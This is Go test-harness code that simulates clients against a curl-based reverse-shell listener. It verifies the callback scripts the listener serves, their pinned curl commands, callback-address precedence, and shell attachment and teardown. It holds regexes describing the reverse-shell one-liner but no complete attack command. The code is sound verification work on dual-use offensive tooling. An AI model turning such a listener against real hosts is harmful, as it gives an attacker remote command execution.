		s.cacheBad, s.cacheOrig, s.cacheChain = false, nil, false
		s.fault("cache_deleted")
	case "damage_cache":
		s.damageCache(a)
	case "tmpl":
		if a.Via == "link" {
			s.tmplState, s.tmplK = a.T, a.N
			s.linkTemplate(a)
			break
		}
		_ = os.RemoveAll(s.tmplPath)
		s.tmplState, s.tmplK = a.T, a.N
		switch a.T {
		case "valid":
			_ = os.WriteFile(s.tmplPath, []byte(validTemplate(a.N)), 0o600)
		case "unparsable":
			_ = os.WriteFile(s.tmplPath, []byte(pad("#!/bin/sh\n{{.URL\n")), 0o600)
			s.fault("template_unparsable")
		case "execfail":
			_ = os.WriteFile(s.tmplPath, []byte(pad("#!/bin/sh\necho before {{.Nope}} after\n")), 0o600)
			s.fault("template_exec_error")
		case "empty":
			_ = os.WriteFile(s.tmplPath, nil, 0o600)
			s.fault("template_empty")
		case "missing":
			s.fault("template_missing")
		case "dir":
			_ = os.Mkdir(s.tmplPath, 0o700)
			s.fault("template_unreadable")
		}
		if s.cfg.CoarseDisk {
			// a file system with coarse time stamps (or cp -p, rsync -t): every
			// version of the file carries the same modification time
			t := time2024
			_ = os.Chtimes(s.tmplPath, t, t)
			s.probes["template_same_mtime"]++
		}
	case "get_c":
		s.getC(a)
	case "burst_c":
		s.burstC(a)
	case "preconnect":
		c, err := s.dial("")
		if err != nil {
			s.harnessErr = "dial failed although the listener should be open: " + err.Error()
			return
		}
		s.pre = append(s.pre, c)
		s.probes["idle_connections_made"]++
	case "chain_cache":
		// the operator installs a certificate of their own: leaf and issuing CA
		// in the cache file's certificate section, the leaf's key in the other
		pin, err := writeChainCache(s.cachePath)
		if err != nil {
			s.harnessErr = "writing chain cache: " + err.Error()
			return
		}
		s.cachePin = pin
		s.cacheBad, s.cacheOrig, s.cacheChain = false, nil, true
		s.fault("cache_holds_a_chain")
	case "regen_cache":
		// another instance (or the operator) replaces the cache file while this
		// server is running: what is served must stay what is advertised
		_ = os.Remove(s.cachePath)
		s.cachePin = ""
		s.cacheBad, s.cacheOrig, s.cacheChain = false, nil, false
		if cert, err := sstls.GetCertificate("", nil, nil, 0, s.cachePath); err == nil && cert.Leaf != nil {
			h := sha256.Sum256(cert.Leaf.RawSubjectPublicKeyInfo)
			s.cachePin = base64.StdEncoding.EncodeToString(h[:])
		}
		s.fault("cache_replaced_while_running")
	case "probe":
		s.probe()
	case "open_in", "open_out", "open_io":
		s.open(a)
	case "run_script":
		s.runScript()
	case "line":
		l := string(a.B)
		s.entered = append(s.entered, l)
		s.ich <- l
	case "out":
		ss := s.sessionN(a.S)
		c := ss.out
		if ss.io != nil {
			c = ss.io
		}
		if a.Flood > 0 {
			s.sendFlood(ss, c, a)
			break
		}
		if err := c.write(chunk(a.B)); err == nil {
			ss.sentOut = append(ss.sentOut, a.B...)
		}
	case "reset_lines":
		// The connection carrying operator input dies while lines are being
		// entered: the reset and the lines land in the same instant, before the
		// server can have noticed.  Only the one line whose own transmission
		// fails may be lost; the rest waits for the next shell.
		ss := s.sessionN(a.S)
		inC := ss.in
		if ss.io != nil {
			inC = ss.io
		}
		inC.closeConn(true)
		if ss.out != nil {
			ss.out.closeConn(true)
		}
		for i := 0; i < a.N; i++ {
			l := fmt.Sprintf("inflight-%d.%d", len(s.entered), i)
			s.entered = append(s.entered, l)
			s.ich <- l
		}
		ss.closing = true
		ss.resetWithLines = true
		s.fault("conn_reset_with_lines_in_flight")
	case "close":
		// The client ends the session.  "out" closes only the upload (the
		// server must then end the input stream by itself); otherwise the
		// input connection goes first and the upload right after it, in the
		// same step: net/http keeps a handler's connection busy until a
		// blocked body read returns, which needs the client to go away.
		ss := s.sessionN(a.S)
		order := []*client{ss.in, ss.out, ss.io}
		if a.Which == "out" {
			order = []*client{ss.out, ss.io}
		}
		for _, c := range order {
			if c == nil {
				continue
			}
			if !a.Reset && (c == ss.out || c == ss.io) {
				_ = c.write([]byte("0\r\n\r\n")) // orderly end of the request body
			}
			c.closeConn(a.Reset)
		}
		if a.Reset {
			s.fault("conn_reset")
		} else {
			s.fault("conn_closed")
		}
		ss.closing = true
	}
}

// dispatched reports whether the HTTP server handed the request that client c
// made to a handler.
func (s *sim) dispatched(c *client) bool {
	addr := c.conn.LocalAddr().String()
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, r := range s.reqs {
		if r.remote == addr {
			return true
		}
	}
	return false
}

var time2024 = time.Date(2024, 9, 19, 12, 0, 0, 0, time.UTC)

func (s *sim) fault(n string) { s.faults[n]++; s.nontrivial = true }

// probe: can a new TCP connection still be made?
func (s *sim) probe() bool {
	c, err := s.dial("")
	if err != nil {
		s.obs("probe refused")
		return false
	}
	c.closeConn(false)
	s.obs("probe ok")
	if b := s.boot; b != nil && b.pin == "" {
		b.pin = c.pin
	}
	return true
}

var (
	reSha   = regexp.MustCompile(`sha256//([A-Za-z0-9+/=]+)`)
	reHTTPS = regexp.MustCompile(`https://([^\s/"']+)`)
	reCurl  = regexp.MustCompile(`--pinnedpubkey "?sha256//([A-Za-z0-9+/=]+)"? https://([^\s/]+)/(i|o)/(\S+)`)
	reID    = regexp.MustCompile(`^[A-Za-z0-9._~-]+$`)
)

// getC requests the callback script and judges the answer (C07, C05).
func (s *sim) getC(a Action) {
	c := s.getCStart(a)
	if c == nil {
		return
	}
	s.settle()
	s.getCJudge(a, c)
}

// burstC makes several /c requests at once, on separate connections, and
// judges every answer: overlapping requests must not disturb each other.
func (s *sim) burstC(a Action) {
	r := simkit.NewRNG(uint64(a.N), uint64(len(s.actions)))
	var as []Action
	var cs []*client
	s.mu.Lock()
	s.holdC = a.Which == "hold" // the answers are held back and let go one by one, in a seeded order
	s.mu.Unlock()
	for i := 0; i < a.N; i++ {
		ai := Action{K: "get_c", Host: hostsPool[r.Intn(len(hostsPool))], SNI: sniPool[r.Intn(len(sniPool))]}
		if r.Chance(1, 2) {
			ai.C2Q = c2Pool[r.Intn(len(c2Pool))]
		}
		c := s.getCStart(ai)
		if c == nil {
			return
		}
		as, cs = append(as, ai), append(cs, c)
	}
	s.settle()
	s.mu.Lock()
	s.holdC = false
	parks := s.wparks
	s.wparks = nil
	s.mu.Unlock()
	if len(parks) > 0 {
		sort.Slice(parks, func(i, j int) bool { return parks[i].remote < parks[j].remote })
		r.Shuffle(len(parks), func(i, j int) { parks[i], parks[j] = parks[j], parks[i] })
		for _, p := range parks {
			close(p.ch)
			s.settle()
		}
		s.probes["script_answers_held"] += int64(len(parks))
	}
	for i := range cs {
		s.getCJudge(as[i], cs[i])
	}
	s.probes["script_bursts"]++
}

func (s *sim) getCStart(a Action) *client {
	b := s.boot
	c, err := s.dial(a.SNI)
	if err != nil {
		s.harnessErr = "dial for /c failed: " + err.Error()
		return nil
	}
	if b.pin == "" {
		b.pin = c.pin
	}
	target := "/c"
	var body string
	method := "GET"
	hdr := ""
	if a.C2Q != "" {
		if a.Form {
			method = "POST"
			body = "c2=" + url.QueryEscape(a.C2Q)
			hdr += "Content-Type: application/x-www-form-urlencoded\r\n" + fmt.Sprintf("Content-Length: %d\r\n", len(body))
		} else {
			target += "?c2=" + url.QueryEscape(a.C2Q)
		}
	}
	if a.C2H != "" {
		hdr += "c2: " + a.C2H + "\r\n"
	}
	proto := "HTTP/1.1"
	if a.Proto10 {
		proto = "HTTP/1.0"
	}
	if a.Host != "" && !isASCII(a.Host) {
		// net/http refuses bytes above 0x7f in a Host header; a host name that is
		// not plain ASCII reaches the server in an absolute-form request target
		// (as a proxy-style client sends it), which takes precedence over Host
		target = "https://" + a.Host + target
		hdr += "Host: ignored.invalid\r\n"
		s.probes["host_not_ascii_in_request_target"]++
	} else if a.Host != "" {
		hdr += "Host: " + a.Host + "\r\n"
	}
	req := fmt.Sprintf("%s %s %s\r\n%sConnection: close\r\n\r\n%s", method, target, proto, hdr, body)
	c.pump(method)
	if err := c.write([]byte(req)); err != nil {
		s.harnessErr = "writing /c request: " + err.Error()
		return nil
	}
	return c
}

func (s *sim) getCJudge(a Action, c *client) {
	b := s.boot
	status, rb, eof, done, rerr := c.snapshot()
	c.closeConn(false)
	if !done || rerr != nil || !eof {
		s.violate("C07", "script-answered", "request for /c not answered", "GET /c got no complete response (header=%v eof=%v err=%v)", done, eof, rerr)
		return
	}
	s.probes["scripts_requested"]++
	// expected callback address: c2 parameter, else c2 header, else Host (IDNA ASCII), else SNI (+port unless 443)
	want, wantErr := "", false
	switch {
	case a.C2Q != "":
		want = a.C2Q
		s.probes["c2_from_param"]++
	case a.C2H != "":
		want = a.C2H
		s.probes["c2_from_header"]++
	case a.Host != "":
		want = asciiHost(a.Host)
		s.probes["c2_from_host"]++
	case a.SNI != "":
		want = a.SNI
		port := b.boundPort
		if a.Port443Effective(b) {
			port = "443"
		}
		if port != "443" {
			want += ":" + port
		} else {
			s.probes["sni_port_443"]++
		}
		s.probes["c2_from_sni"]++
	default:
		wantErr = true
		s.probes["c2_out_of_ideas"]++
	}
	// template model
	state := "default"
	if b.tmplOn {
		state = s.tmplState
		if state == "none" {
			state = "missing"
		}
	}
	s.obs("/c -> %d body=%v (template %s)", status, len(rb) > 0, state)
	failing := state == "unparsable" || state == "missing" || state == "dir" || state == "execfail" || wantErr
	if failing {
		if status < 400 || len(rb) != 0 {
			s.violate("C07", "no-script-on-error", "script or success status sent although template/callback address unusable ("+state+")",
				"template state %s, callback address determinable=%v: got status %d with %d body bytes %q; expected an error status and no script", state, !wantErr, status, len(rb), clip(rb))
		}
		return
	}
	if status != 200 {
		s.violate("C07", "script-served", "no script although template and callback address are fine",
			"template state %s: GET /c answered %d %q", state, status, clip(rb))
		return
	}
	if state == "empty" {
		if len(rb) != 0 {
			s.violate("C07", "template-reread", "script does not come from the current template file", "template file is empty but the script is %q", clip(rb))
		}
		return
	}
	if state == "valid" {
		// the body must be the CURRENT file's text rendered
		if !bytes.Contains(rb, []byte(fmt.Sprintf("# marker-%04d\n", s.tmplK))) {
			s.violate("C07", "template-reread", "script does not come from the current template file",
				"template file now carries marker-%d but the script is %q", s.tmplK, clip(rb))
			return
		}
	}
	ms := reCurl.FindAllSubmatch(rb, -1)
	if len(ms) != 2 {
		s.violate("C07", "script-shape", "script does not contain the two curl commands", "script %q has %d pinned curl commands", clip(rb), len(ms))
		return
	}
	var pins, urls, idsSeen, dirs [2]string
	for i, m := range ms {
		pins[i], urls[i], dirs[i], idsSeen[i] = string(m[1]), string(m[2]), string(m[3]), string(m[4])
	}
	if dirs[0] == dirs[1] {
		s.violate("C07", "script-shape", "script does not contain one /i and one /o command", "both commands use /%s/", dirs[0])
		return
	}
	for i := range pins {
		if pins[i] != c.pin {
			s.violate("C05", "script-pin", "callback script pins a key the listener does not serve",
				"curl command %d of the script pins %s but the handshake on this very connection presented a key with pin %s", i+1, pins[i], c.pin)
			return
		}
	}
	if urls[0] != urls[1] {
		s.violate("C07", "same-address", "the two curl commands call back to different addresses", "addresses %q and %q", urls[0], urls[1])
		return
	}
	if urls[0] != want {
		s.violate("C07", "address-precedence", "callback address is not the one the precedence rule yields",
			"request (c2 param %q, c2 header %q, Host %q, SNI %q, listen port %s): script calls back to %q, expected %q", a.C2Q, a.C2H, a.Host, a.SNI, b.boundPort, urls[0], want)
		return
	}
	if idsSeen[0] != idsSeen[1] {
		s.violate("C07", "same-id", "the two curl commands carry different IDs", "IDs %q and %q", idsSeen[0], idsSeen[1])
		return
	}
	id := idsSeen[0]
	if !reID.MatchString(id) {
		s.violate("C07", "id-safe", "ID contains characters that are not URL- and shell-safe", "ID %q", id)
		return
	}
	if s.ids[id] {
		s.violate("C07", "id-fresh", "ID repeated between scripts", "ID %q was already used by an earlier script of this run", id)
		return
	}
	s.ids[id] = true
	s.idOrder = append(s.idOrder, id)
	s.script = scriptInfo{ok: true, pin: pins[0], url: urls[0], id: id, boot: b.n}
}

// Port443Effective: the simulated listener reports port 443 for this boot.
func (a Action) Port443Effective(b *boot) bool { return b.act.Port443 }

// asciiHost is the IDNA-ASCII form of the Host values the generator uses
// (known pairs, computed independently of the code's library).
func isASCII(h string) bool {
	for i := 0; i < len(h); i++ {
		if h[i] >= 0x80 {
			return false
		}
	}
	return true
}

func asciiHost(h string) string {
	switch h {
	case "bücher.example":
		return "xn--bcher-kva.example"
	case "bücher.example:8443":
		return "xn--bcher-kva.example:8443"
	case "例え.jp":
		return "xn--r8jz45g.jp"
	}
	return h
}

func clip(b []byte) string {
	if len(b) > 300 {
		return string(b[:300]) + "..."
	}
	return string(b)
}

// open opens one half (or a bidirectional stream) of a session.
func (s *sim) open(a Action) {
	var ss *session
	if a.S == len(s.sess) {
		ss = &session{n: a.S, id: a.ID, expectOK: a.Which != "bad", readyAtOpen: s.boot.ready}
		if a.Pre && s.boot.act.OneShell && s.boot.ready > 0 {
			ss.noJudge = true // whether net/http still serves an unused old connection during shutdown is its own business
		}
		s.sess = append(s.sess, ss)
	} else {
		ss = s.sess[a.S]
	}
	var c *client
	if a.Pre {
		c = s.pre[0]
		s.pre = s.pre[1:]
		s.probes["request_on_idle_connection"]++
		if s.boot.act.OneShell && s.boot.ready > 0 {
			s.probes["request_on_old_connection_after_listener_closed"]++
		}
	} else {
		var err error
		if c, err = s.dial(""); err != nil {
			s.harnessErr = "dial failed although the listener should be open: " + err.Error()
			return
		}
	}
	if s.boot.pin == "" {
		s.boot.pin = c.pin
	}
	id := a.ID
	if id == "" {
		id = ss.id
	}
	if strings.HasPrefix(id, "$live") {
		lid := "none"
		if l := s.liveSession(); l != nil && l.id != "" {
			lid = l.id
		}
		switch suf := strings.TrimPrefix(id, "$live"); suf {
		case "^": // the same ID in the other case
			if id = swapCase(lid); id == lid {
				id = lid + "x"
			}
		case "<": // a proper prefix of the ID
			id = lid[:len(lid)-1]
			if id == "" {
				id = lid + "x"
			}
		case "~": // the same ID but for its first byte
			id = otherFirstByte(lid)
		default:
			id = lid + suf
		}
		ss.id = id
	}
	if a.Long > 0 {
		id = longID(id, a.Long)
		ss.id = id
		s.probes["long_ids"]++
	}
	if len(id) > 64 {
		s.probes["requests_with_id_over_64_bytes"]++
		if !ss.expectOK {
			s.probes["refusable_attempts_with_id_over_64_bytes"]++
		}
	}
	if len(id) > 256 {
		s.probes["requests_with_id_over_256_bytes"]++
	}
	id = spell(id, a.N)
	hold := a.Flood > 0 || a.Early
	readyBefore, goneBefore := s.boot.ready, s.boot.gone
	if hold {
		// the handler is held before it starts: what the client does next
		// happens before the server has sent anything
		s.mu.Lock()
		s.holdEntry = true
		s.mu.Unlock()
	}
	defer func() {
		if !hold {
			return
		}
		s.settle()
		s.mu.Lock()
		held := len(s.eparks)
		s.mu.Unlock()
		if held > 0 {
			s.probes["handler_held_before_start"]++
		}
		if a.Flood > 0 {
			if _, _, _, done, _ := c.snapshot(); !done && held > 0 {
				s.probes["flood_before_response_header"]++
			}
			s.sendFlood(ss, c, a)
		}
		if a.Early {
			c.closeConn(true)
			ss.closing, ss.noJudge = true, true
			s.settle() // (the server notices, or does not, before the handler runs)
			if held > 0 {
				s.fault("conn_reset_before_handler_ran")
			} else {
				s.fault("conn_reset_right_after_request")
			}
		}
		s.releaseEntries()
		if a.Early {
			// a stream that comes and goes within the step; which of its notices
			// appear is the broker's business, the books of whole shells stay even
			s.settle()
			s.boot.gone = goneBefore + (s.boot.ready - readyBefore)
		}
	}()
	switch a.K {
	case "open_in":
		ss.in = c
		c.pump("GET")
		_ = c.write([]byte(fmt.Sprintf("GET /i/%s HTTP/1.1\r\nHost: h\r\n\r\n", id)))
	case "open_out":
		ss.out = c
		ss.plainFrom = len(s.lines)
		c.pump("PUT")
		_ = c.write([]byte(fmt.Sprintf("PUT /o/%s HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n", id)))
	case "open_io":
		ss.io = c
		ss.plainFrom = len(s.lines)
		c.pump("POST")
		_ = c.write([]byte("POST /io HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"))
		s.probes["io_sessions"]++
	}
}

func swapCase(x string) string {
	b := []byte(x)
	for i, c := range b {
		switch {
		case c >= 'a' && c <= 'z':
			b[i] = c - 32
		case c >= 'A' && c <= 'Z':
			b[i] = c + 32
		}
	}
	return string(b)
}

// spell returns one of several request-path spellings that all decode to id.
func spell(id string, n int) string {
	switch n % 3 {
	case 1: // every byte percent-encoded
		var sb strings.Builder
		for i := 0; i < len(id); i++ {
			fmt.Fprintf(&sb, "%%%02X", id[i])
		}
		return sb.String()
	case 2: // only what must be encoded, lower-case hex
		var sb strings.Builder
		for i := 0; i < len(id); i++ {
			c := id[i]
			if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.' || c == '_' || c == '~' {
				sb.WriteByte(c)
			} else {
				fmt.Fprintf(&sb, "%%%02x", c)
			}
		}
		return sb.String()
	}
	return url.PathEscape(id)
}

// runScript plays curl and /bin/sh for the last script: both requests, pinned.
func (s *sim) runScript() {
	b := s.boot
	sc := s.script
	before := b.ready
	n := len(s.sess)
	s.open(Action{K: "open_in", S: n, ID: sc.id})
	if s.harnessErr != "" {
		return
	}
	ss := s.sess[n]
	if ss.in.pin != sc.pin {
		s.violate("C05", "script-pin", "callback script pins a key the listener does not serve",
			"the script pins %s but the listener presents a key with pin %s: curl would refuse to connect", sc.pin, ss.in.pin)
		return
	}
	s.settle()
	s.open(Action{K: "open_out", S: n, ID: sc.id})
	s.settle()
	if b.ready != before+1 {
		s.violate("C07", "script-works", "running the served script does not attach a shell",
			"both curl requests of the script (ID %s) were made but no shell became ready (ready notices %d -> %d)", sc.id, before, b.ready)
		return
	}
	s.probes["scripts_run"]++
	s.script.ok = false
}

// ---- oracle evaluated after every step ---------------------------------------

func (s *sim) check(a Action) {
	if s.harnessErr != "" {
		return
	}
	b := s.boot
	if b == nil {
		return
	}
	// C05: every advertised fingerprint equals the served key's pin
	if b.pin == "" && !(b.act.OneShell && b.ready > 0) {
		s.probe()
		s.settle()
	}
	if b.pin != "" {
		if b.advert != b.pin {
			s.violate("C05", "advertised-is-served", "the fingerprint the server advertises is not the pin of the key it serves",
				"server advertises %s but the TLS handshake presents a key whose pin is %s", b.advert, b.pin)
		}
		if b.checked < b.firstLine {
			b.checked = b.firstLine
		}
		for i := b.checked; i < len(s.lines); i++ {
			for _, m := range reSha.FindAllStringSubmatch(s.lines[i].Line, -1) {
				s.probes["fingerprints_checked"]++
				if m[1] != b.pin {
					s.violate("C05", "notice-pin", "a one-liner shows a fingerprint that is not the pin of the served key",
						"operator notice %q shows %s but the served key's pin is %s", s.canon(s.lines[i].Line), m[1], b.pin)
				}
			}
			for _, m := range reHTTPS.FindAllStringSubmatch(s.lines[i].Line, -1) {
				s.checkOneLinerAddr(b, m[1], s.lines[i].Line)
			}
		}
		b.checked = len(s.lines)
		if a.K == "boot" {
			// every configured callback address and (unless wildcard) the listen address is offered
			all := ""
			for i := b.firstLine; i < len(s.lines); i++ {
				all += s.lines[i].Line + "\n"
			}
			for _, cb := range b.act.CB {
				want := cb
				if !hasPort(cb) {
					want = joinHostPort(cb, b.boundPort)
				}
				if !strings.Contains(all, "https://"+want) {
					s.violate("C05", "one-liner-address", "a configured callback address is missing from the one-liners",
						"callback address %q: no one-liner with https://%s", cb, s.canon(want))
				}
			}
		}
		if b.act.Cache && !b.cacheJudged {
			b.cacheJudged = true
			if b.cacheExisted && s.cachePin != "" && s.cachePin != b.pin {
				s.violate("C08", "stable-identity", "restart with the same cache file serves a different key",
					"boot %d found the cache file in place but serves pin %s; the boot that created the file served %s", b.n, b.pin, s.cachePin)
			}
			if !b.cacheExisted {
				s.cachePin = b.pin
			}
		}
	}
	s.checkSessions()
	// C12
	if b.act.OneShell {
		s.checkOneShell(a)
	}
	// HTTP-level delivery (C02/C03 through TLS and chunked encoding)
	s.checkTraffic()
	s.mu.Lock()
	early := b.doRet && !b.stopped && !(b.act.OneShell && b.goneFull > 0)
	err := b.doErr
	s.mu.Unlock()
	if early {
		s.violate("C04", "server-stays", "Server.Do returned although nobody stopped it", "Server.Do returned %v while the server should be running", err)
	}
}

func hasPort(a string) bool {
	_, p, err := net.SplitHostPort(a)
	return err == nil && p != ""
}

func joinHostPort(h, p string) string {
	if strings.Contains(h, ":") && !strings.HasPrefix(h, "[") {
		return "[" + h + "]:" + p
	}
	return h + ":" + p
}

// checkOneLinerAddr: printed host:port pairs carry the bound port unless the
// callback address supplied its own.
func (s *sim) checkOneLinerAddr(b *boot, hp, line string) {
	if !strings.Contains(line, "sha256//") {
		return // not a one-liner
	}
	for _, cb := range b.act.CB {
		if hasPort(cb) && hp == cb {
			return
		}
	}
	i := strings.LastIndex(hp, ":")
	if i < 0 || hp[i+1:] != b.boundPort {
		s.violate("C05", "one-liner-port", "a one-liner names a port that is neither the bound one nor one the user supplied",
			"one-liner %q names %q; the listener is bound to port %s and the callback addresses are %v", s.canon(line), hp, b.boundPort, b.act.CB)
	}
}

func (s *sim) checkOneShell(a Action) {
	b := s.boot
	s.mu.Lock()
	doRet, doErr := b.doRet, b.doErr
	s.mu.Unlock()
	if b.ready == 0 {
		if doRet {
			s.violate("C12", "open-until-shell", "server stopped before any shell was fully attached", "Server.Do returned %v with no shell ever ready", doErr)
			return
		}
		if b.ln.Closed() {
			s.violate("C12", "open-until-shell", "listener closed before a shell was fully attached",
				"-one-shell: the listening socket is closed although no shell has been fully attached yet (after %s)", a.K)
		}
		return
	}
	s.probes["one_shell_ready"]++
	if !b.iobStarted {
		// The broker's event loop has not run yet (main starts it concurrently
		// with the server; here it is late): the server cannot know of the
		// shell, so the listener is judged once the loop runs.  The shell
		// itself must be left alone all the same.
		s.probes["one_shell_ready_event_loop_not_yet_run"]++
		if doRet && b.goneFull == 0 {
			s.violate("C12", "shell-undisturbed", "server stopped while the one shell was still attached", "Server.Do returned %v while the shell is attached", doErr)
		}
		return
	}
	if !b.ln.Closed() {
		s.violate("C12", "closed-after-shell", "listener still open after the shell became ready",
			"-one-shell: the shell is ready but new TCP connections are still accepted")
		return
	}
	if s.probe() {
		s.violate("C12", "closed-after-shell", "listener still open after the shell became ready", "-one-shell: a new connection was accepted after the ready notice")
		return
	}
	if b.goneFull == 0 {
		if doRet {
			s.violate("C12", "shell-undisturbed", "server stopped while the one shell was still attached", "Server.Do returned %v while the shell is attached", doErr)
		}
		return
	}
	if !b.goneJudged {
		// the one shell has ended: somebody must have ended it (its client
		// closing or resetting a stream, an upload that ended, the harness
		// stopping the server); a shell whose client has done nothing of the
		// kind was cut off by the program
		b.goneJudged = true
		if !s.stopping && !b.stopped {
			for _, ss := range s.sess {
				if ss.closed || ss.closing || ss.noJudge || ss.resetWithLines || !ss.expectOK || !ss.readyChecked {
					continue
				}
				open := true
				for _, c := range []*client{ss.in, ss.out, ss.io} {
					if c != nil && c.closed {
						open = false
					}
				}
				if open && (ss.io != nil || ss.in != nil && ss.out != nil) {
					s.violate("C12", "shell-undisturbed", "the one shell was ended by the program although its client had not ended it",
						"-one-shell: session %d was ready and none of its streams had been closed, reset or ended by its client, yet the shell is announced gone (after %s)", ss.n, a.K)
					return
				}
			}
		}
	}
	if b.helpAfter > 0 {
		s.violate("C12", "no-new-callbacks", "callback help offered again after the one shell ended", "-one-shell: %d one-liners were printed after the shell had gone", b.helpAfter)
		return
	}
	lingering := len(s.pre) > 0
	for _, ss := range s.sess {
		if !ss.closed {
			lingering = true
		}
	}
	for _, c := range s.clients {
		c.mu.Lock()
		if !c.closed {
			lingering = true
		}
		c.mu.Unlock()
	}
	// (the twelve seconds count from the moment the shell had gone and the last
	// client had left: a client that stays - say a second shell on a connection
	// made before the listener closed - keeps the server up for as long as it
	// likes)
	since := b.goneAt
	if lingering {
		b.lastLinger = s.nowNanos()
	}
	if b.lastLinger > since {
		since = b.lastLinger
		s.probes["one_shell_clients_stayed_after_shell"]++
	}
	if !doRet && !lingering && s.nowNanos()-since > int64(12*time.Second) {
		s.violate("C12", "exits-after-shell", "server does not finish after the one shell ended",
			"-one-shell: %d ms after the shell had gone and the last client had left Server.Do has not returned", (s.nowNanos()-since)/1e6)
		return
	}
	if doRet && doErr != hsrv.ErrOneShellClosed {
		s.violate("C12", "exits-after-shell", "server finishes with an error other than the one-shell sentinel",
			"Server.Do returned %v; main treats only ErrOneShellClosed as success", doErr)
	}
	if doRet {
		s.probes["one_shell_finished"]++
	}
}

// checkTraffic: lines entered reach the attached shell's client at once,
// through chunked encoding and TLS, with the clock unmoved; output sent is
// displayed byte-exact.
func (s *sim) checkTraffic() {
	ss := s.liveSession()
	b := s.boot
	if ss == nil || b == nil {
		return
	}
	inC, outC := ss.in, ss.out
	if ss.io != nil {
		inC, outC = ss.io, ss.io
	}
	if inC == nil || outC == nil || b.ready == 0 || b.ready <= b.gone {
		return
	}
	// input: everything entered since this shell became ready
	_, body, eof, _, _ := inC.snapshot()
	if !eof && len(s.ich) == 0 {
		prior, mayLose := 0, 0
		for _, o := range s.sess[:ss.n] {
			oc := o.in
			if o.io != nil {
				oc = o.io
			}
			if oc != nil {
				_, ob, _, _, _ := oc.snapshot()
				prior += bytes.Count(ob, []byte("\n"))
			}
			if o.resetWithLines || o.halfServed {
				mayLose++ // the one line whose own transmission error ended that shell
			}
		}
		ok := false
		want := ""
		for lost := 0; lost <= mayLose && !ok; lost++ {
			want = ""
			if prior+lost <= len(s.entered) {
				for _, l := range s.entered[prior+lost:] {
					want += l + "\n"
				}
			}
			ok = string(body) == want
		}
		if !ok {
			s.violate("C02", "prompt-over-http", "entered lines have not reached the shell's HTTP client at the quiescent point",
				"the shell's input connection has received %q; entered since it attached: %q (nothing may wait for further input or a timer)", clip(body), clip([]byte(want)))
			return
		}
		if len(want) > 0 {
			s.probes["lines_over_http"]++
		}
	}
	// output: plain lines displayed since ready
	if ss.shownTo < ss.plainFrom {
		ss.shownTo = ss.plainFrom
	}
	for ; ss.shownTo < len(s.lines); ss.shownTo++ {
		if s.lines[ss.shownTo].Plain {
			ss.shown = append(ss.shown, s.lines[ss.shownTo].Line...)
		}
	}
	shown := ss.shown
	if !bytes.Equal(shown, ss.sentOut) {
		d := 0
		for d < len(shown) && d < len(ss.sentOut) && shown[d] == ss.sentOut[d] {
			d++
		}
		s.violate("C03", "exact-over-http", "output sent by the shell is not displayed byte-exact at the quiescent point",
			"shell sent %d bytes %q, displayed %d bytes %q; they differ from offset %d on: sent %q, displayed %q", len(ss.sentOut), clip(ss.sentOut), len(shown), clip(shown),
			d, clip(ss.sentOut[d:]), clip(shown[d:]))
		return
	}
	if len(shown) > 0 {
		s.probes["output_over_http"]++
	}
}

// checkSessions: refused attempts are ended at once and get nothing; a session
// the client has left is torn down completely by the server.
func (s *sim) checkSessions() {
	for _, ss := range s.sess {
		if ss.closed {
			continue
		}
		if !ss.expectOK {
			for _, c := range []*client{ss.in, ss.out, ss.io} {
				if c == nil {
					continue
				}
				_, body, eof, done, _ := c.snapshot()
				if c == ss.out && (!done || !eof) {
					// net/http answers a refused upload only once it has read what it
					// is prepared to read of the body (256 KiB) or the body has ended.
					// Half of the time the client, like curl -T- fed by a busy shell,
					// just keeps uploading: the server must give up on it by itself;
					// otherwise the upload ends.
					if ss.n%2 == 0 {
						blob := bytes.Repeat([]byte("refused-output-"), 4096) // 60 KiB per chunk
						for i := 0; i < 6; i++ {
							_ = c.write(chunk(blob))
						}
						s.probes["refused_upload_keeps_going"]++
					} else {
						_ = c.write([]byte("0\r\n\r\n"))
					}
					s.settle()
					_, body, eof, done, _ = c.snapshot()
				}
				if !done || !eof {
					s.violate("C01", "refused-ends-http", "refused attempt's HTTP request not ended at once",
						"an attempt that must be refused (ID %q while another shell is attached) still has an open response (header=%v, ended=%v)", ss.id, done, eof)
				}
				if len(body) != 0 {
					s.violate("C01", "refused-untouched-http", "refused attempt was sent data", "refused attempt received %q", clip(body))
				}
				c.closeConn(false)
			}
			s.probes["refused_over_http"]++
			ss.closed = true
			continue
		}
		full := ss.io != nil || ss.in != nil && ss.out != nil
		if full && !ss.noJudge && !ss.closing && !ss.readyChecked {
			ss.readyChecked = true
			if b := s.boot; b != nil && b.ready <= ss.readyAtOpen {
				s.violate("C04", "rearm-over-http", "a complete shell is not accepted although nothing else is attached",
					"session %d (ID %q) has made both of its requests while no other shell was attached, but no ready notice was displayed: the listener must behave as if freshly started", ss.n, ss.id)
			} else {
				s.probes["shells_ready_over_http"]++
			}
		}
		if ss.closing {
			// every response of the session has ended by now - provided the
			// server ever had all of the session's requests: one that arrived on
			// an idle connection while the server was on its way out (after the
			// one shell of a -one-shell run) is never handed to a handler, and a
			// stream the server does not know cannot end its peer
			allServed := true
			for _, c := range []*client{ss.in, ss.out, ss.io} {
				if c != nil && !s.dispatched(c) {
					allServed = false
				}
			}
			if !allServed {
				s.probes["session_with_a_request_the_server_never_served"]++
				// ... and its input stream, which the server did have, learns
				// that its client has gone only when the next line's
				// transmission fails: that one line may be lost
				ss.halfServed = true
			}
			for _, c := range []*client{ss.in, ss.out, ss.io} {
				if c == nil {
					continue
				}
				_, _, eof, done, _ := c.snapshot()
				if allServed && !(done && eof) && !c.closed {
					s.violate("C04", "peer-ends-http", "other direction's HTTP request not ended after one direction ended",
						"the client ended one stream of session %d but the other stream's response is still open", ss.n)
				}
				c.closeConn(false)
			}
			ss.closed = true
		}
	}
}
