package hsrvsim

import (
	"math"
	"os"
	"runtime/debug"
	"sort"
	"strconv"
	"syscall"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// ---- /c under descriptor pressure ------------------------------------------------
//
// A server that has been up for a while, or runs with a small "ulimit -n", has
// few descriptors to spare, and the garbage collector may not run for a long
// time.  squeeze_c reproduces that state for the length of one step: the
// process's soft RLIMIT_NOFILE is lowered so that exactly Margin more
// descriptors can be opened than are open now, the collector is switched off,
